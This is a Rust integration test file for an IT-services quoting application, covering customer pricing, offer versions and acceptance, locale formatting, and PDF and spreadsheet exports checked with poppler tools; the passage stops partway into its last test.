//! Offers on the demo catalog: customer prices, numbering, versions, compare,
//! acceptance, and the PDF, XLSX and CSV documents read back.

mod support;

use chrono::NaiveDate;
use rust_decimal::Decimal;
use servicefolio::booking::*;
use servicefolio::customer::*;
use servicefolio::locale::Locale;
use servicefolio::offer::*;
use servicefolio::pricing::*;
use servicefolio::settings::{save_settings, settings, Settings};
use servicefolio::vocabulary::{ContextRef, InstanceStatus, OfferType};
use servicefolio::{ErrorDetails, ErrorKind, Store};
use std::str::FromStr;
use support::booking::for_employee;
use support::customers::{acme_gmbh_in_berlin, NewCustomer};
use support::price_lists;

fn d(text: &str) -> Decimal {
    Decimal::from_str(text).unwrap()
}

fn day(y: i32, m: u32, dd: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, dd).unwrap()
}

struct Fixture {
    store: Store,
    customer: i64,
    employees: Vec<i64>,
}

/// ACME GmbH with three employees in Berlin and the price list "ACME 2026"
/// (docs/pricing.md §4.1); the sender's settings filled in.
fn fixture() -> Fixture {
    fixture_with(&["Anna Schmidt", "Ben Meyer", "Clara Wolf"])
}

/// The same customer and sender with `names` as its employees in Berlin.
fn fixture_with(names: &[&str]) -> Fixture {
    fixture_in(Store::open_in_memory().unwrap(), names)
}

fn fixture_in(mut store: Store, names: &[&str]) -> Fixture {
    let (customer, employees) = store
        .write(|tx| {
            let acme = acme_gmbh_in_berlin()
                .location("Berlin")
                .employees_at("Berlin", names)
                .create(tx)?;
            let mut acme_2026 = price_lists::acme_2026(acme.id);
            // The totals below are worked out on the list without §4.1's
            // last entry, the 5 % on Security.
            acme_2026.entries.pop();
            create_price_list(tx, &acme_2026)?;
            save_settings(
                tx,
                &Settings {
                    company_name: "Nordlicht IT Services GmbH".into(),
                    address: "Am Sandtorkai 12\n20457 Hamburg".into(),
                    vat_id: "DE123456789".into(),
                    bank: "Hamburger Sparkasse\nIBAN DE02 2005 0550 1234 5678 90".into(),
                    contact: "+49 40 1234567\nvertrieb@nordlicht-it.example".into(),
                    default_validity_days: 30,
                    logo_path: None,
                    language: Locale::De,
                    approval: Default::default(),
                },
            )?;
            Ok((acme.id, acme.employees))
        })
        .unwrap();
    Fixture {
        store,
        customer,
        employees,
    }
}

fn start() -> NaiveDate {
    day(2026, 6, 1)
}

fn managed365(f: &Fixture) -> BookingRequest {
    support::booking::managed365(f.customer, ContextSelector::AllEmployees, start())
}

fn notebooks(f: &Fixture, quantity: i64) -> BookingRequest {
    support::booking::notebook(f.customer, for_employee(f.employees[0]), quantity, start())
}

fn draft(f: &Fixture, requests: Vec<BookingRequest>) -> OfferDraft {
    OfferDraft {
        customer_id: f.customer,
        requests,
        changes: Vec::new(),
        offer_date: Some(day(2026, 5, 20)),
        valid_until: None,
        notes: String::new(),
    }
}

fn create(f: &mut Fixture, requests: Vec<BookingRequest>) -> Offer {
    let draft = draft(f, requests);
    f.store.write(|tx| create_offer(tx, &draft)).unwrap()
}

fn find<'a>(o: &'a Offer, code: &str) -> &'a OfferLineView {
    o.lines().find(|l| l.item_code == code).unwrap()
}

#[test]
fn an_offer_line_keeps_why_it_is_there_as_data_and_older_lines_get_it_from_their_words() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("before-line-reasons.db");
    let store = Store::open(&path).unwrap();
    let mut f = fixture_in(store, &["Anna Schmidt"]);
    let requests = vec![managed365(&f), notebooks(&f, 1)];
    let o = create(&mut f, requests);
    let reason = |o: &Offer, code: &str| find(o, code).reason.clone();
    assert_eq!(reason(&o, "SVC-M365"), Some(LineReason::Requested));
    assert_eq!(
        reason(&o, "BAS-M365-TENANT"),
        Some(LineReason::Prerequisite {
            of: "Managed365".into(),
            scope: servicefolio::catalog::RequirementScope::Customer
        })
    );
    let notebook = find(&o, "NB-LEN-T14G5").description.clone();
    assert_eq!(
        reason(&o, "SVC-MDM"),
        Some(LineReason::Mandatory {
            with: notebook.clone()
        })
    );
    let lines: Vec<OfferLineView> = o.lines().cloned().collect();
    drop(f);

    // Back to schema 19 (no reasons kept): the migration reads them back from
    // the English the plan wrote, and the offer reads as it did.
    let back = |sql: &str| {
        let store = Store::open(&path).unwrap();
        store
            .conn()
            .execute_batch(&format!(
                "ALTER TABLE offer_line DROP COLUMN reason; {sql} PRAGMA user_version = 19;"
            ))
            .unwrap();
    };
    back("");
    let store = Store::open(&path).unwrap();
    let migrated = offer(store.conn(), o.id).unwrap();
    assert_eq!(migrated.lines().cloned().collect::<Vec<_>>(), lines);
    drop(store);

    // The other words a plan writes, and words it never wrote (no reason made up).
    back(&format!(
        "UPDATE offer_line SET explanation = 'optional with {notebook}, included' WHERE item_code = 'SVC-MDM';
         UPDATE offer_line SET explanation = 'required by Managed365 (in Anna Schmidt)' WHERE item_code = 'BAS-M365-TENANT';
         UPDATE offer_line SET explanation = 'typed by hand' WHERE item_code = 'SVC-M365';"
    ));
    let store = Store::open(&path).unwrap();
    let migrated = offer(store.conn(), o.id).unwrap();
    assert_eq!(
        reason(&migrated, "SVC-MDM"),
        Some(LineReason::Optional { with: notebook })
    );
    assert_eq!(
        reason(&migrated, "BAS-M365-TENANT"),
        Some(LineReason::Prerequisite {
            of: "Managed365".into(),
            scope: servicefolio::catalog::RequirementScope::SameContext
        })
    );
    assert_eq!(reason(&migrated, "SVC-M365"), None);
}

#[test]
fn an_offer_prices_services_for_the_customer_and_products_at_their_fixed_price() {
    let mut f = fixture();
    let requests = vec![managed365(&f), notebooks(&f, 2)];
    let o = create(&mut f, requests);
    assert_eq!((o.number.as_str(), o.version), ("ANG-2026-0001", 1));
    assert_eq!(o.status, OfferStatus::Draft);
    assert_eq!(o.valid_until, day(2026, 6, 19), "20 May + 30 default days");
    // Managed365 Standard 12.90 − 10 % = 11.61, EDR 2.50 − 10 % = 2.25, 24x7 override 2.00.
    let m365 = find(&o, "SVC-M365");
    assert_eq!(m365.terms.monthly_per_unit, d("15.86"));
    // The tenant (category Modern Workplace, 20 %): 49.00 → 39.20; setup fee stays.
    let tenant = find(&o, "BAS-M365-TENANT");
    assert_eq!(
        (tenant.amounts.monthly, tenant.amounts.one_time),
        (d("39.20"), d("490.00"))
    );
    // The notebook keeps its list price; MDM has no price in the list.
    assert_eq!(find(&o, "NB-LEN-T14G5").amounts.one_time, d("2498.00"));
    assert_eq!(find(&o, "SVC-MDM").amounts.monthly, d("9.80"));
    // Groups: customer-wide first, then the employees.
    let labels: Vec<&str> = o.groups.iter().map(|g| g.label.as_str()).collect();
    assert_eq!(
        labels,
        ["customer-wide", "Anna Schmidt", "Ben Meyer", "Clara Wolf"]
    );
    let positions: Vec<u32> = o.lines().map(|l| l.position).collect();
    assert_eq!(positions, [1, 2, 3, 4, 5, 6]);
    let t = &o.calculation.totals;
    // one-time 490.00 + 2,498.00; monthly 3 × 15.86 + 9.80 + 39.20; 12 months.
    assert_eq!((t.net.one_time, t.net.monthly), (d("2988.00"), d("96.58")));
    assert_eq!(t.net.contract_value, d("4146.96"));
    assert_eq!(
        (t.one_time_gross, t.monthly_gross),
        (d("3555.72"), d("114.93"))
    );
    assert_eq!(t.contract_value_gross, d("4934.88"));
    // Internal margin: only the notebook has a cost (1,049.00 each).
    assert_eq!(o.calculation.margin.margin_one_time, Some(d("400.00")));
    assert_eq!(o.calculation.margin.lines_without_cost, 5);

    // The same request planned directly carries the customer price too, so a
    // booking freezes it in the inventory.
    let planned = plan(f.store.conn(), &managed365(&f)).unwrap();
    assert_eq!(planned.lines[0].terms.monthly_per_unit, d("15.86"));
    // After the list has ended the catalog price applies: 12.90 + 2.50 + 3.00.
    let later = BookingRequest {
        start_date: day(2027, 2, 1),
        ..managed365(&f)
    };
    let planned = plan(f.store.conn(), &later).unwrap();
    assert_eq!(planned.lines[0].terms.monthly_per_unit, d("18.40"));

    // Numbers run on per year.
    let requests = vec![notebooks(&f, 1)];
    let second = create(&mut f, requests);
    assert_eq!(second.number, "ANG-2026-0002");
    let next_year = OfferDraft {
        offer_date: Some(day(2027, 1, 4)),
        ..draft(&f, vec![notebooks(&f, 1)])
    };
    let third = f.store.write(|tx| create_offer(tx, &next_year)).unwrap();
    assert_eq!(third.number, "ANG-2027-0001");
    assert_eq!(offers(f.store.conn(), Some(f.customer)).unwrap().len(), 3);
    // Nothing was booked by making offers.
    let inventory = inventory(f.store.conn(), f.customer, start()).unwrap();
    assert!(inventory.instances.is_empty());
}

#[test]
fn a_sent_version_is_frozen_a_new_version_copies_it_and_versions_compare() {
    let mut f = fixture();
    let requests = vec![managed365(&f), notebooks(&f, 2)];
    let o = create(&mut f, requests);
    // Groups can be reordered while a draft.
    let mut order: Vec<ContextRef> = o.groups.iter().map(|g| g.context).collect();
    order.reverse();
    let update = OfferUpdate {
        group_order: Some(order.clone()),
        notes: Some("Rollout in June.".into()),
        ..Default::default()
    };
    let reordered = f.store.write(|tx| update_offer(tx, o.id, &update)).unwrap();
    assert_eq!(
        reordered
            .groups
            .iter()
            .map(|g| g.context)
            .collect::<Vec<_>>(),
        order
    );
    assert_eq!(reordered.groups[0].label, "Clara Wolf");
    assert_eq!(reordered.lines().next().unwrap().position, 1);
    assert_eq!(reordered.notes, "Rollout in June.");
    assert_eq!(reordered.calculation.totals, o.calculation.totals);
    let bad = OfferUpdate {
        group_order: Some(order[1..].to_vec()),
        ..Default::default()
    };
    let err = f
        .store
        .write(|tx| update_offer(tx, o.id, &bad))
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidInput);

    f.store
        .write(|tx| set_offer_status(tx, o.id, OfferStatus::Sent))
        .unwrap();
    let err = f
        .store
        .write(|tx| {
            update_offer(
                tx,
                o.id,
                &OfferUpdate {
                    notes: Some("x".into()),
                    ..Default::default()
                },
            )
        })
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InUse);
    assert_eq!(
        err.to_string(),
        "offer ANG-2026-0001 version 1 cannot be edited: it is sent and frozen; create a new version to change it"
    );

    let v2 = f
        .store
        .write(|tx| new_offer_version(tx, o.id, Some(day(2026, 5, 25))))
        .unwrap();
    assert_eq!(
        (v2.number.as_str(), v2.version, v2.status),
        ("ANG-2026-0001", 2, OfferStatus::Draft)
    );
    assert_eq!(v2.previous_id, Some(o.id));
    assert_eq!(v2.valid_until, day(2026, 6, 24));
    assert_eq!(v2.groups, reordered.groups);
    assert!(compare_offers(f.store.conn(), o.id, v2.id)
        .unwrap()
        .changes
        .is_empty());

    // Version 2: three notebooks instead of two, no Managed365 for anyone.
    let revise = OfferUpdate {
        requests: Some(vec![notebooks(&f, 3)]),
        ..Default::default()
    };
    let v2 = f
        .store
        .write(|tx| update_offer(tx, v2.id, &revise))
        .unwrap();
    let comparison = compare_offers(f.store.conn(), o.id, v2.id).unwrap();
    assert_eq!(
        (comparison.from.as_str(), comparison.to.as_str()),
        ("ANG-2026-0001 v1", "ANG-2026-0001 v2")
    );
    let removed = comparison
        .changes
        .iter()
        .filter(|c| matches!(c, LineChange::Removed { .. }))
        .count();
    assert_eq!(removed, 4, "three Managed365 lines and the tenant");
    let changed: Vec<&LineChange> = comparison
        .changes
        .iter()
        .filter(|c| matches!(c, LineChange::Changed { .. }))
        .collect();
    assert_eq!(changed.len(), 2, "{changed:?}");
    match changed[0] {
        LineChange::Changed {
            description,
            quantity_from,
            quantity_to,
            one_time_from,
            one_time_to,
            ..
        } => {
            assert_eq!(description, "Lenovo ThinkPad T14 Gen 5");
            assert_eq!((*quantity_from, *quantity_to), (2, 3));
            assert_eq!((*one_time_from, *one_time_to), (d("2498.00"), d("3747.00")));
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(comparison.unchanged, 0);
    // Only a sent offer can be accepted.
    let err = f
        .store
        .write(|tx| set_offer_status(tx, v2.id, OfferStatus::Accepted))
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InUse);
}

#[test]
fn accepting_books_the_plans_as_ordered_and_a_stale_offer_is_refused() {
    let mut f = fixture();
    let requests = vec![managed365(&f), notebooks(&f, 2)];
    let o = create(&mut f, requests);
    let requests = vec![managed365(&f)];
    let stale = create(&mut f, requests);
    for id in [o.id, stale.id] {
        f.store
            .write(|tx| set_offer_status(tx, id, OfferStatus::Sent))
            .unwrap();
    }
    let change = f
        .store
        .write(|tx| set_offer_status(tx, o.id, OfferStatus::Accepted))
        .unwrap();
    assert_eq!(change.offer.status, OfferStatus::Accepted);
    assert_eq!(change.ordered_instances.len(), 6);
    let inventory = inventory(f.store.conn(), f.customer, start()).unwrap();
    assert_eq!(inventory.instances.len(), 6);
    assert!(inventory
        .instances
        .iter()
        .all(|i| i.status == InstanceStatus::Ordered));
    // The second request saw the tenant of the first: one tenant in all.
    let tenants = inventory
        .instances
        .iter()
        .filter(|i| i.item_code == "BAS-M365-TENANT")
        .count();
    assert_eq!(tenants, 1);

    // The other offer was planned before the tenant existed: it is stale now.
    let err = f
        .store
        .write(|tx| set_offer_status(tx, stale.id, OfferStatus::Accepted))
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::StalePlan);
    assert!(err.to_string().contains("plan again"), "{err}");
    assert_eq!(
        offer(f.store.conn(), stale.id).unwrap().status,
        OfferStatus::Sent
    );
    assert_eq!(inventory_len(&f), 6, "nothing was written");
}

fn inventory_len(f: &Fixture) -> usize {
    inventory(f.store.conn(), f.customer, start())
        .unwrap()
        .instances
        .len()
}

#[test]
fn locale_formats_money_dates_and_percentages_exactly() {
    let (de, en) = (Locale::De, Locale::En);
    assert_eq!(de.money(d("1234.56"), "EUR"), "1.234,56 €");
    assert_eq!(en.money(d("1234.56"), "EUR"), "€1,234.56");
    assert_eq!(de.money(d("-1234567.891"), "EUR"), "-1.234.567,89 €");
    assert_eq!(en.money(d("-0.005"), "EUR"), "-€0.01");
    assert_eq!(de.money(d("0"), "EUR"), "0,00 €");
    assert_eq!(en.money(d("999.995"), "CHF"), "CHF 1,000.00");
    assert_eq!(de.money(d("12.9"), "CHF"), "12,90 CHF");
    assert_eq!(de.date(day(2026, 11, 23)), "23.11.2026");
    assert_eq!(en.date(day(2026, 11, 23)), "23 Nov 2026");
    assert_eq!(en.date(day(2026, 1, 5)), "5 Jan 2026");
    assert_eq!(de.percent(d("19.00")), "19 %");
    assert_eq!(de.percent(d("2.95")), "2,95 %");
    assert_eq!(en.percent(d("2.95")), "2.95%");
    assert_eq!(de.page(1, 2), "Seite 1 von 2");
    assert_eq!(en.page(1, 2), "Page 1 of 2");
    assert_eq!(de.labels().offer, "Angebot");
    assert_eq!(en.labels().offer, "Offer");
}

#[test]
fn settings_are_stored_and_checked() {
    let mut f = fixture();
    let mut s = settings(f.store.conn()).unwrap();
    assert_eq!(s.company_name, "Nordlicht IT Services GmbH");
    s.language = Locale::En;
    s.default_validity_days = 14;
    let saved = f.store.write(|tx| save_settings(tx, &s)).unwrap();
    assert_eq!(saved, s);
    s.default_validity_days = 0;
    let err = f.store.write(|tx| save_settings(tx, &s)).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidInput);
    assert_eq!(settings(f.store.conn()).unwrap(), saved);
}

fn pdftotext(bytes: &[u8]) -> String {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("offer.pdf");
    std::fs::write(&path, bytes).unwrap();
    let output = std::process::Command::new("pdftotext")
        .arg("-layout")
        .arg(&path)
        .arg("-")
        .output()
        .expect("pdftotext (poppler-utils; scripts/setup.sh test installs it)");
    assert!(output.status.success());
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn the_pdf_shows_the_sender_customer_lines_totals_terms_and_page_numbers() {
    let mut f = fixture();
    let requests = vec![managed365(&f), notebooks(&f, 2)];
    let o = create(&mut f, requests);
    let bytes = export_offer(f.store.conn(), o.id, OfferExportFormat::Pdf).unwrap();
    assert!(bytes.starts_with(b"%PDF-"));
    let text = pdftotext(&bytes);
    for expected in [
        "Nordlicht IT Services GmbH",
        "ACME GmbH",
        "Hauptstraße 5",
        "Angebot ANG-2026-0001",
        "20.05.2026",
        "19.06.2026",
        "Anna Schmidt",
        "Unternehmensweit",
        "Lenovo ThinkPad T14 Gen 5",
        "2.498,00 €",
        "2.988,00 €",
        "96,58 €",
        "3.555,72 €",
        "114,93 €",
        "4.146,96 €",
        "4.934,88 €",
        "Mindestlaufzeit 12 Monate",
        "DE123456789",
        "Seite 1 von 2",
        "Seite 2 von 2",
    ] {
        assert!(
            text.contains(expected),
            "{expected:?} missing from:\n{text}"
        );
    }
    // Never the internal cost or margin (the notebook costs 1,049.00).
    assert!(!text.contains("1.049,00"), "{text}");

    // In English when the settings say so.
    let mut s = settings(f.store.conn()).unwrap();
    s.language = Locale::En;
    f.store.write(|tx| save_settings(tx, &s)).unwrap();
    let text = pdftotext(&export_offer(f.store.conn(), o.id, OfferExportFormat::Pdf).unwrap());
    for expected in [
        "Offer ANG-2026-0001",
        "20 May 2026",
        "€2,988.00",
        "€4,934.88",
        "Page 1 of 2",
        "Company-wide",
    ] {
        assert!(
            text.contains(expected),
            "{expected:?} missing from:\n{text}"
        );
    }
}

/// The pages of a PDF as `pdftotext -layout` lays them out.
fn pdf_pages(bytes: &[u8]) -> Vec<String> {
    pdftotext(bytes)
        .split('\u{c}')
        .filter(|page| !page.trim().is_empty())
        .map(str::to_owned)
        .collect()
}

#[test]
fn a_group_heading_never_stands_alone_at_the_bottom_of_a_page() {
    // Why: a heading (an employee's name) at the foot of a page with its lines
    // on the next reads as an empty group (issue 13, item 8). Each employee's
    // group is a heading, one Managed365 line and its subtotal; offers of 8 to
    // 30 employees shift the group boundaries over every position on the
    // page, so some heading falls where the page ends.
    let mut checked_breaks = 0;
    for count in 8..=30 {
        let names: Vec<String> = (1..=count).map(|i| format!("Mitarbeiter {i:02}")).collect();
        let refs: Vec<&str> = names.iter().map(String::as_str).collect();
        let mut f = fixture_with(&refs);
        let requests = vec![managed365(&f)];
        let o = create(&mut f, requests);
        let bytes = export_offer(f.store.conn(), o.id, OfferExportFormat::Pdf).unwrap();
        let pages = pdf_pages(&bytes);
        checked_breaks += pages.len() - 1;
        for (number, page) in pages.iter().enumerate() {
            let lines: Vec<&str> = page.lines().map(str::trim).collect();
            for (i, line) in lines.iter().enumerate() {
                if !line.starts_with("Mitarbeiter ") {
                    continue;
                }
                // The heading's first line (position, description) follows on
                // the same page, and so does the group's subtotal: a group of
                // one line fits whole.
                let rest = &lines[i + 1..];
                let first = rest
                    .iter()
                    .position(|l| l.starts_with(|c: char| c.is_ascii_digit()));
                let subtotal = rest.iter().position(|l| l.starts_with("Zwischensumme"));
                assert!(
                    first.is_some() && subtotal.is_some() && first < subtotal,
                    "{count} employees, page {}: {line:?} without its line and subtotal:\n{page}",
                    number + 1
                );
            }
        }
    }
    assert!(checked_breaks > 10, "the offers must break pages");
}

#[test]
fn the_pdf_embeds_only_the_glyphs_it_uses() {
    // Why: the two DejaVu faces are 1.4 MB whole; an offer mailed to a customer
    // carries only the glyphs it prints (issue 13: a two-page offer was 1.7 MB).
    // printpdf falls back to the whole font silently when subsetting fails, so
    // the size is what tells.
    let mut f = fixture();
    let requests = vec![managed365(&f), notebooks(&f, 2)];
    let o = create(&mut f, requests);
    let bytes = export_offer(f.store.conn(), o.id, OfferExportFormat::Pdf).unwrap();
    let text = pdftotext(&bytes);
    assert!(text.contains("Seite 2 von 2"), "two pages: {text}");
    assert!(
        bytes.len() < 200_000,
        "a two-page offer is {} bytes: are the fonts subset?",
        bytes.len()
    );
    // The subset still maps every glyph back to its character (copy and
    // search in the customer's viewer): umlauts, ß and the euro sign.
    for expected in ["Hauptstraße", "2.988,00 €", "Unternehmensweit"] {
        assert!(
            text.contains(expected),
            "{expected:?} missing from:\n{text}"
        );
    }
}

/// A 40 × 20 PNG: an opaque blue left half, a transparent right half.
fn png_logo(path: &std::path::Path) {
    let file = std::fs::File::create(path).unwrap();
    let mut encoder = png::Encoder::new(file, 40, 20);
    encoder.set_color(png::ColorType::Rgba);
    encoder.set_depth(png::BitDepth::Eight);
    let pixels: Vec<u8> = (0..20 * 40)
        .flat_map(|i| {
            if i % 40 < 20 {
                [26, 64, 115, 255]
            } else {
                [0, 0, 0, 0]
            }
        })
        .collect();
    encoder
        .write_header()
        .unwrap()
        .write_image_data(&pixels)
        .unwrap();
}

/// `pdfimages -list` of a PDF: one row per image (page, size, colour, encoding).
fn pdf_images(bytes: &[u8]) -> Vec<String> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("offer.pdf");
    std::fs::write(&path, bytes).unwrap();
    let output = std::process::Command::new("pdfimages")
        .arg("-list")
        .arg(&path)
        .output()
        .expect("pdfimages (poppler-utils)");
    assert!(output.status.success());
    String::from_utf8(output.stdout)
        .unwrap()
        .lines()
        .skip(2)
        .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
        .collect()
}

#[test]
fn the_logo_from_the_settings_is_printed_on_the_letterhead() {
    // Why: the settings name a logo (issue 13, item 8: "the logo from the
    // settings is printed"); a PNG is decoded, a JPEG embedded as it is, both
    // on the first page only; a logo that cannot be read says which file.
    let mut f = fixture();
    let requests = vec![managed365(&f), notebooks(&f, 2)];
    let o = create(&mut f, requests);
    let dir = tempfile::tempdir().unwrap();
    let with_logo = |f: &mut Fixture, path: &std::path::Path| {
        let mut s = settings(f.store.conn()).unwrap();
        s.logo_path = Some(path.display().to_string());
        f.store.write(|tx| save_settings(tx, &s)).unwrap();
        export_offer(f.store.conn(), o.id, OfferExportFormat::Pdf)
    };
    assert!(
        pdf_images(&export_offer(f.store.conn(), o.id, OfferExportFormat::Pdf).unwrap()).is_empty()
    );

    let png_path = dir.path().join("logo.png");
    png_logo(&png_path);
    let images = pdf_images(&with_logo(&mut f, &png_path).unwrap());
    // page num type width height color comp bpc enc …
    assert_eq!(images.len(), 1, "{images:?}");
    assert!(
        images[0].starts_with("1 0 image 40 20 rgb 3 8 image"),
        "{images:?}"
    );

    // A JPEG made by poppler from that PDF's first page, scaled down.
    let pdf_path = dir.path().join("page.pdf");
    std::fs::write(&pdf_path, with_logo(&mut f, &png_path).unwrap()).unwrap();
    let status = std::process::Command::new("pdftoppm")
        .args(["-jpeg", "-r", "10", "-singlefile"])
        .arg(&pdf_path)
        .arg(dir.path().join("logo"))
        .status()
        .unwrap();
    assert!(status.success());
    let images = pdf_images(&with_logo(&mut f, &dir.path().join("logo.jpg")).unwrap());
    assert_eq!(images.len(), 1, "{images:?}");
    assert!(
        images[0].starts_with("1 0 image 83 117 rgb 3 8 jpeg"),
        "{images:?}"
    );

    // Missing, or not an image: an error naming the file, no PDF.
    let missing = dir.path().join("gone.png");
    let err = with_logo(&mut f, &missing).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::File);
    assert!(err.to_string().contains("gone.png"), "{err}");
    let text = dir.path().join("logo.txt");
    std::fs::write(&text, "not a picture").unwrap();
    let err = with_logo(&mut f, &text).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Export);
    assert!(
        err.to_string().contains("logo.txt") && err.to_string().contains("PNG or JPEG"),
        "{err}"
    );
}

#[test]
fn the_xlsx_sums_to_the_same_totals_with_formulas() {
    use calamine::{Data, Reader, Xlsx};
    let mut f = fixture();
    let requests = vec![managed365(&f), notebooks(&f, 2)];
    let o = create(&mut f, requests);
    let bytes = export_offer(f.store.conn(), o.id, OfferExportFormat::Xlsx).unwrap();
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let range = book.worksheet_range("Angebot").unwrap();
    let formulas = book.worksheet_formula("Angebot").unwrap();
    let text = |row: usize, col: usize| match range.get((row, col)) {
        Some(Data::String(s)) => s.clone(),
        other => format!("{other:?}"),
    };
    let number = |row: usize, col: usize| match range.get((row, col)) {
        Some(Data::Float(x)) => Decimal::try_from(*x).unwrap().round_dp(2),
        Some(Data::Int(x)) => Decimal::from(*x),
        other => panic!("({row}, {col}) holds {other:?}"),
    };
    // The customer's address above the table (issue 13, item 8), the
    // header row in the document's language.
    assert_eq!(
        [text(1, 0), text(2, 0), text(3, 0)],
        ["ACME GmbH", "Hauptstraße 5", "10115 Berlin"]
    );
    assert!(
        text(4, 0).starts_with("Datum: 20.05.2026"),
        "{}",
        text(4, 0)
    );
    assert_eq!([text(5, 1), text(5, 2)], ["Kontext", "Beschreibung"]);
    // The line rows: amounts as numbers, summing to the totals.
    let header = 5usize;
    let lines = o.lines().count();
    let (mut one_time, mut monthly) = (Decimal::ZERO, Decimal::ZERO);
    for row in header + 1..=header + lines {
        one_time += number(row, 10);
        monthly += number(row, 11);
    }
    let t = &o.calculation.totals;
    assert_eq!((one_time, monthly), (t.net.one_time, t.net.monthly));
    // The totals block: label in column C, formula (with its result) in column K.
    let find = |label: &str| {
        (0..range.height())
            .find(|r| text(*r, 2) == label)
            .unwrap_or_else(|| panic!("no row {label:?}"))
    };
    let start = range.start().unwrap();
    let formula = |row: usize| {
        formulas
            .get_value((row as u32 - start.0, 10 - start.1))
            .cloned()
            .unwrap_or_default()
    };
    let first = header + 2;
    let last = header + 1 + lines;
    let row = find("Einmalig netto");
    assert_eq!(number(row, 10), d("2988.00"));
    assert_eq!(formula(row), format!("SUM(K{first}:K{last})"));
    let row = find("Monatlich netto");
    assert_eq!(number(row, 10), d("96.58"));
    assert_eq!(formula(row), format!("SUM(L{first}:L{last})"));
    let row = find("Gesamtvertragswert netto");
    assert_eq!(number(row, 10), d("4146.96"));
    assert!(formula(row).contains('*'), "{}", formula(row));
    let row = find("USt. 19 % einmalig");
    assert_eq!(number(row, 10), d("567.72"));
    assert_eq!(
        formula(row),
        format!("ROUND(SUMIF(I{first}:I{last},19,K{first}:K{last})*19/100,2)")
    );
    assert_eq!(number(find("Einmalig brutto"), 10), d("3555.72"));
    assert_eq!(number(find("Monatlich brutto"), 10), d("114.93"));
    assert_eq!(number(find("Gesamtvertragswert brutto"), 10), d("4934.88"));
}

/// Every text cell of the first sheet of an XLSX, one per line.
fn xlsx_text(bytes: &[u8]) -> String {
    use calamine::{Data, Reader, Xlsx};
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&sheet).unwrap();
    range
        .rows()
        .flatten()
        .filter_map(|cell| match cell {
            Data::String(s) => Some(s.clone()),
            _ => None,
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn a_german_document_is_german_throughout_and_an_english_one_english() {
    // Why: a customer reading a German offer met "customer-wide" and English
    // column headers (issue 13, item 8). The offer has a customer-wide group
    // (the tenant, with a setup fee), rental and purchase lines, so the
    // labels the documents print are there (tests/unit_prices.rs reads the
    // leasing terms). Each English word below is
    // in the English document (the list is not vacuous) and in no German one.
    let mut f = fixture();
    let requests = vec![managed365(&f), notebooks(&f, 2)];
    let o = create(&mut f, requests);
    let export = |f: &mut Fixture, language: Locale| {
        let mut s = settings(f.store.conn()).unwrap();
        s.language = language;
        f.store.write(|tx| save_settings(tx, &s)).unwrap();
        let pdf = pdftotext(&export_offer(f.store.conn(), o.id, OfferExportFormat::Pdf).unwrap());
        let xlsx = xlsx_text(&export_offer(f.store.conn(), o.id, OfferExportFormat::Xlsx).unwrap());
        (pdf, xlsx)
    };
    let (pdf_en, xlsx_en) = export(&mut f, Locale::En);
    let (pdf_de, xlsx_de) = export(&mut f, Locale::De);
    let pdf_words = [
        "Company-wide",
        "Offer",
        "Description",
        "Qty",
        "Unit price",
        "One-time",
        "Monthly",
        "Subtotal",
        "Rental",
        "Purchase",
        "incl. one-time setup",
        "Dear Sir",
        "Terms",
        "minimum term",
        "notice period",
        "on the contract value",
        "valid until",
        "Page",
    ];
    let xlsx_words = [
        "Company-wide",
        "Offer",
        "Context",
        "Description",
        "Setup fee",
        "Unit price",
        "Rental",
        "Purchase",
        "on the contract value",
        "Valid until",
    ];
    for (english, german, words) in [
        (&pdf_en, &pdf_de, &pdf_words[..]),
        (&xlsx_en, &xlsx_de, &xlsx_words[..]),
    ] {
        for word in words {
            assert!(english.contains(word), "{word:?} missing from:\n{english}");
            assert!(
                !german.contains(word),
                "{word:?} in the German document:\n{german}"
            );
        }
        // The core's own English name for the group never reaches a document.
        assert!(!english.contains("customer-wide") && !german.contains("customer-wide"));
    }
    assert!(pdf_de.contains("Unternehmensweit") && xlsx_de.contains("Unternehmensweit"));
}

#[test]
fn exporting_a_pdf_with_an_empty_sender_is_refused_unless_allowed() {
    // Why: a customer PDF that does not say who sends it is almost always a
    // settings left unfilled (issue 13, item 8); the one exporting is asked
    // first, and the refusal names the empty fields so the UI can say which.
    let mut f = fixture();
    let requests = vec![managed365(&f)];
    let o = create(&mut f, requests);
    let mut s = settings(f.store.conn()).unwrap();
    s.company_name = " ".into();
    s.address = String::new();
    f.store.write(|tx| save_settings(tx, &s)).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("offer.pdf");
    let export = |format, allow_empty_sender| {
        export_offer_to(
            f.store.conn(),
            o.id,
            format,
            &path,
            ExportChoices { allow_empty_sender },
        )
    };
    let err = export(OfferExportFormat::Pdf, false).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::SenderMissing);
    match err.details() {
        Some(ErrorDetails::SenderMissing { fields }) => {
            assert_eq!(fields, ["company_name", "address"]);
        }
        other => panic!("{other:?}"),
    }
    assert!(!path.exists(), "nothing written before the answer");
    // Allowed: written. The XLSX and CSV print no letterhead: never asked.
    assert!(export(OfferExportFormat::Pdf, true).unwrap() > 0);
    assert!(export(OfferExportFormat::Xlsx, false).unwrap() > 0);
    assert!(export(OfferExportFormat::Csv, false).unwrap() > 0);
}

#[test]
fn a_bookings_offer_type_is_switched_in_place_or_refused_with_the_reason() {
    // Why: issue 13, item 7: a consultant switches a line from rental to
    // purchase without removing and re-adding the booking; an item without
    // terms for that type is refused with the planner's reason and the draft
    // stays as it was.
